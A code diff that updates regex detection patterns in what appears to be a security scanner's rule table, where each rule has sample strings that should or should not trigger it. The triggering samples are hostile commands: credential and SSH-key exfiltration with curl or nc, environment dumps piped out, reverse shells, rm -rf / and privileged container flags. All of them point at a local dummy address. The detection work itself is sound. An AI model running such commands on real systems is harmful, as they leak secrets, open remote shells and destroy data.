@@ -13,14 +13,14 @@ export const SCRIPT_ROWS: readonly Row[] = [
   {
     rule: ATTACKING_SCRIPT,
     pattern:
-      /(?:\b(?:curl|wget|nc|ncat|scp|requests|urllib|urlopen|socket|invoke-webrequest|invoke-restmethod)\b.*(?:\/etc\/(?:passwd|shadow)|\.ssh[\\/]|\.aws[\\/]|\.netrc|\.kube\/config|\.docker\/config|\.git-credentials|\.huggingface\/token|huggingface\/token|\/run\/secrets\/)|(?:\/etc\/(?:passwd|shadow)|\.ssh\/id_|\.aws\/credentials|(?:~|\$\{?HOME\}?|\/root)\/\.(?:aws|ssh|kube|gnupg|azure|docker|config\/gcloud|\w*_history|netrc)\b).*\|\s*(?:curl|nc|ncat|wget)\b)/i,
+      /(?:\b(?:curl|wget|nc|ncat|requests|urllib|urlopen|socket|invoke-webrequest|invoke-restmethod)\b.*(?:\/etc\/(?:passwd|shadow)|\.ssh[\\/]|\.aws[\\/]|\.netrc|\.kube\/config|\.docker\/config|\.git-credentials|\.huggingface\/token|huggingface\/token|\/run\/secrets\/)|(?:\/etc\/(?:passwd|shadow)|\.ssh\/id_|\.aws\/credentials|(?:~|\$\{?HOME\}?|\/root)\/\.(?:aws|ssh|kube|gnupg|azure|docker|config\/gcloud|\w*_history|netrc)\b).*\|\s*(?:curl|nc|ncat|wget)\b)/i,
     fires: ['curl -d @$HOME/.aws/credentials http://127.0.0.1:9/', 'cat ~/.ssh/id_rsa | nc 127.0.0.1 9'],
     quiet: ['curl -O https://example.org/model.bin', 'chmod 600 ~/.ssh/id_rsa'],
   },
   {
     rule: ATTACKING_SCRIPT,
     pattern:
-      /\b(?:env|printenv|set|history)\b\s*\|[^\n]*\b(?:curl|wget|nc|ncat)\b|\b(?:curl|wget)\b[^\n]*(?:\$\((?:env|printenv)\)|`(?:env|printenv)`)/,
+      /\b(?:env|printenv|set|history)\b\s*\|[^\n]*\b(?:curl|wget|nc|ncat)\b|\b(?:curl|wget)\b[^\n]*(?:\$\((?:env|printenv)\b[^)\n]*\)|`(?:env|printenv)\b[^`\n]*`)/,
     fires: [
       'env | curl -d @- http://127.0.0.1:9/',
       'curl "http://127.0.0.1:9/?$(env)"',
@@ -107,7 +107,7 @@ export const SCRIPT_ROWS: readonly Row[] = [
   {
     rule: ATTACKING_SCRIPT,
     pattern:
-      /\b(?:nc|ncat|netcat)\b[^\n]*\s-\w*(?:e|c)\b|\bmkfifo\b[^\n]*\b(?:nc|ncat|sh|telnet|openssl)\b|\bsocat\b[^\n]*\bexec\b|\b(?:python[\d.]*|perl|ruby|php|node)\s+-(?:c|e|r|MIO)\b[^\n]*\b(?:socket|net\.connect|fsockopen|TCPSocket|IO::Socket)\b[^\n]*\b(?:dup2|spawn|exec|subprocess|\/bin\/(?:ba)?sh)\b/i,
+      /\b(?:nc|ncat|netcat)\b[^\n]*\s-\w*(?:e|c)\b|\bmkfifo\b[^\n]*\b(?:nc|ncat|sh|telnet|openssl)\b|\bsocat\b[^\n]*\bexec\b|\b(?:python[\d.]*|perl|ruby|php|node)\s+-(?:c|e|r|rsocket|MIO)\b[^\n]*\b(?:socket|net["')]{0,3}\.connect|fsockopen|TCPSocket|IO::Socket)\b[^\n]*\b(?:dup2|spawn|exec|popen|subprocess|\/bin\/(?:ba)?sh)\b/i,
     fires: [
       'nc -e /bin/sh 127.0.0.1 9',
       'mkfifo /tmp/f; nc 127.0.0.1 9 < /tmp/f | sh > /tmp/f',
@@ -126,7 +126,7 @@ export const SCRIPT_ROWS: readonly Row[] = [
   {
     rule: ATTACKING_SCRIPT,
     pattern:
-      /\brm\s+-[a-z]*[rf][a-z]*\s+(?:-\S+\s+)*(?:--no-preserve-root\s+)?"?(?:\/|~|\$\{?HOME\}?|\/\*)"?(?:\s|$|\/?\*|\/?\.\[)|\bdd\b[^\n]*\bof=\/dev\/(?:sd|nvme|hd|vd|mmcblk)|\bmkfs(?:\.\w+)?\s+\/dev\/|:\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}|\b(?:rd|rmdir)\s+\/s\b[^\n]*\s[a-z]:\\?(?:\s|$)|\bformat\s+[a-z]:\s*\/|\bvssadmin\b[^\n]*\bdelete\b|\bRemove-Item\b[^\n]*-Recurse[^\n]*\s(?:[A-Z]:\\|\$HOME|~)(?:\s|$)/im,
+      /\brm\s+-[a-z]*[rf][a-z]*\s+(?:-\S+\s+)*(?:--no-preserve-root\s+)?"?(?:\/|~|\$\{?HOME\}?|\/\*)"?(?:\s|$|\/?\*|\/?\.\[)|\bfind\s+(?:~|"?\$\{?HOME\}?"?|\/)\s+(?:-type\s+f\s+)?-delete\b|\bdd\b[^\n]*\bof=\/dev\/(?:sd|nvme|hd|vd|mmcblk)|\bmkfs(?:\.\w+)?\s+\/dev\/|:\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}|\b(?:rd|rmdir)\s+\/s\b[^\n]*\s[a-z]:\\?(?:\s|$)|\bformat\s+[a-z]:\s*\/|\bvssadmin\b[^\n]*\bdelete\b|\bRemove-Item\b[^\n]*-Recurse[^\n]*\s(?:[A-Z]:\\|\$HOME|~)(?:\s|$)/im,
     fires: [
       'rm -rf /',
       'rm -rf "$HOME"/*',
@@ -217,7 +217,7 @@ export const SCRIPT_ROWS: readonly Row[] = [
   {
     rule: HOST_ACCESS,
     pattern:
-      /^\s*(?:privileged|hostPID|hostNetwork|hostIPC|allowPrivilegeEscalation)\s*:\s*true\b|\bdocker(?:-compose)?\s+run\b[^\n]*\s--(?:privileged|pid[= ]host)\b|["'\s:]\/var\/run\/docker\.sock\b|^\s*-\s*["']?\/:\/|["']--privileged["']|\bprivileged\s*:\s*true\s*[},]|["']\/:\/\w*["']|^\s*hostPath\s*:\s*\{?\s*path\s*:\s*\/\s*\}?$/m,
+      /^\s*(?:privileged|hostPID|hostNetwork|hostIPC|allowPrivilegeEscalation)\s*:\s*true\b|\bdocker(?:-compose)?\s+run\b[^\n]*\s--(?:privileged|pid[= ]host)\b|["'\s:]\/var\/run\/docker\.sock\b|^\s*-\s*["']?\/:\/|["']--privileged["']|\bprivileged\s*:\s*true\s*[},]|["']\/:\/\w*["']|(?:^\s*|[{,]\s*)hostPath\s*:\s*\{?\s*path\s*:\s*\/\s*(?:\}|$)/m,
     fires: [
       '    privileged: true',
       'docker run --privileged x',
@@ -230,7 +230,7 @@ export const SCRIPT_ROWS: readonly Row[] = [
   {
     rule: FETCHED_CODE,
     pattern: new RegExp(
-      `\\b${FETCH}\\b[^\\n;]*(?:(?<!\\|)\\|(?!\\|)|\\bCOMMAND\\b)\\s*(?:(?:sudo|env|nohup|exec|command|busybox|time|nice)\\s+(?:-\\S+\\s+|\\w+=\\S*\\s+)*)*(?:/\\S*/)?(?:${PLAIN_SHELL}\\b|${READER}|source\\s*(?:$|[;&|'"]))`,
+      `\\b${FETCH}\\b[^\\n;]*(?:(?<!\\|)\\|(?!\\|)|\\bCOMMAND\\b)\\s*(?:(?:sudo|env|nohup|exec|command|busybox|time|nice|xargs)\\s+(?:-\\S+\\s+|\\w+=\\S*\\s+)*)*(?:/\\S*/)?(?:${PLAIN_SHELL}\\b|${READER}|source\\s*(?:$|[;&|'"]))`,
       'i',
     ),
     fires: [
